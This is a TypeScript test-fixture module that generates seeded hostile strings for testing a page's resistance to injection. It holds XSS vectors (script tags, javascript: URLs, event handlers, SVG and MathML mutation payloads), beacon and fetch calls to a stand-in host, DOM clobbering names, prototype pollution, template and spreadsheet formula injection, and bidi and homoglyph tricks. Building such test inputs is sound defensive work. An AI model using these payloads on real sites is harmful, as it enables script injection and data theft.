import { chance } from '../chance.ts';

/**
 * Hostile texts, put together by chance from what runs, what makes it run, and what wraps it: with the same seed the same ones. None is
 * copied from anywhere. What runs calls `canary()`, opens a dialog, asks for something, or leads away; a page that stays as it was has
 * withstood it.
 */
const site = 'https://hostile.example/';

/** What a script would do. */
const deeds = [
  'canary()',
  'alert(1)',
  `fetch('${site}fetch')`,
  `new Image().src='${site}image'`,
  `location='${site}location'`,
  `import('${site}module.js')`,
  "document.body.textContent=''",
  `navigator.sendBeacon('${site}beacon','x')`,
];

/** Elements that run something by themselves or when they are touched; `DEED` is the script. */
const scripts = [
  '<script>DEED</script>',
  `<script src=${site}script.js></script>`,
  '<svg><script>DEED</script></svg>',
  '<svg><animate onbegin=DEED attributeName=x dur=1s></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=DEED>#x"/></svg>',
  '<math><maction actiontype="statusline#DEED" href="javascript:DEED">x</maction></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror="DEED"></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:DEED"></iframe>',
  "<iframe srcdoc='<script>DEED</script>'></iframe>",
  '<a href="javascript:DEED">read on</a>',
  '<a href="data:text/html,<script>DEED</script>">read on</a>',
  '<form action="javascript:DEED"><button>send</button></form>',
  '<object data="data:text/html,<script>DEED</script>"></object>',
  '<embed src="javascript:DEED">',
  '<template><script>DEED</script></template>',
  '<template shadowrootmode="open"><img src=x onerror="DEED"></template>',
  '<noscript><p title="</noscript><img src=x onerror=DEED>"></noscript>',
  `<meta http-equiv="refresh" content="0;url=${site}refresh">`,
  '<meta http-equiv="refresh" content="0;url=javascript:DEED">',
  `<base href="${site}">`,
];
const handled = [
  '<img src=x HANDLER="DEED">',
  '<svg HANDLER=DEED>',
  '<body HANDLER=DEED>',
  '<input autofocus HANDLER=DEED>',
  '<details open HANDLER=DEED>x</details>',
  '<video><source HANDLER="DEED"></video>',
  '<p tabindex=0 HANDLER=DEED>words</p>',
  '<marquee HANDLER=DEED>words</marquee>',
];
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onclick',
  'onpointerenter',
  'onanimationstart',
  'onbeforematch',
];
/** Styles, names that hide the document's own, and text that is read otherwise than it stands. */
const quiet = [
  `<style>@import '${site}style.css';</style>`,
  `<style>body{background:url(${site}background)}.promise{display:none}</style>`,
  `<p style="position:fixed;inset:0;background:url(${site}cover)">cover</p>`,
  `<link rel=stylesheet href=${site}style.css>`,
  `<link rel=prefetch href=${site}prefetch>`,
  `<img srcset="${site}small 1x, ${site}large 2x">`,
  `<audio src="${site}sound" autoplay></audio>`,
  ...'body head querySelectorAll getElementById cookie defaultView documentElement childNodes'
    .split(' ')
    .map((name) => `<img name=${name}>`),
  '<form id=page><input name=childNodes><input name=textContent><input name=nodeType></form>',
  '<a id=engine href=x></a><a id=engine name=textContent href=y></a>',
  '<input name=attributes><input id=trustedTypes>',
  '__proto__ constructor toString hasOwnProperty',
  '{"__proto__":{"polluted":true}}',
  '{{constructor.constructor("DEED")()}} ${DEED} <%= DEED %>',
  '=HYPERLINK("https://hostile.example/cell","click") +1+cmd|x -2 @SUM(1)',
  '\u202Eesrever\u202C',
  '\u202Eopen override',
  '\u2067open isolate \u202Ewithin',
  '\u2069\u2069closes what it never opened \u202E',
  '\u061C\u200F\u200Emarks',
  'раураl.com аррlе.com ѕсrірt', // Cyrillic letters that look Latin.
  '＜script＞DEED＜/script＞',
  '\uFEFF\u200B\u2060\u00AD',
  '\u0000\u0007\u001B[31m',
  '\uD800 alone',
];
const wrappers = [
  'PAYLOAD',
  '">PAYLOAD',
  "'>PAYLOAD",
  '-->PAYLOAD<!--',
  ']]>PAYLOAD<![CDATA[',
  '</title></textarea></style>PAYLOAD',
  '</script>PAYLOAD<script>',
  '[x](javascript:DEED) ![x](x"onerror="DEED) PAYLOAD',
  '&lt;PAYLOAD&gt; &#60;img src=x onerror=DEED&#62;',
  '\u202EPAYLOAD',
  '<!--PAYLOAD',
  '<PAYLOAD',
];

/** At least `least` hostile texts, in which every element, handler, wrapper and deed occurs. None holds a line break. */
export function hostileTexts(least: number, seed: number): string[] {
  const next = chance(seed);
  const anyOf = (list: readonly string[]): string => list[Math.floor(next() * list.length)] ?? '';
  const fill = (core: string, wrapper: string, handler: string, deed: string): string =>
    wrapper
      .replace('PAYLOAD', () => core)
      .replaceAll('HANDLER', handler)
      .replaceAll('DEED', () => deed);
  const texts = new Set<string>();
  for (const core of [...scripts, ...quiet]) texts.add(fill(core, 'PAYLOAD', '', anyOf(deeds)));
  for (const core of handled) for (const handler of handlers) texts.add(fill(core, 'PAYLOAD', handler, anyOf(deeds)));
  for (const wrapper of wrappers) for (const deed of deeds) texts.add(fill(anyOf(scripts), wrapper, '', deed));
  while (texts.size < least) {
    texts.add(fill(anyOf([...scripts, ...handled, ...quiet]), anyOf(wrappers), anyOf(handlers), anyOf(deeds)));
  }
  return [...texts];
}
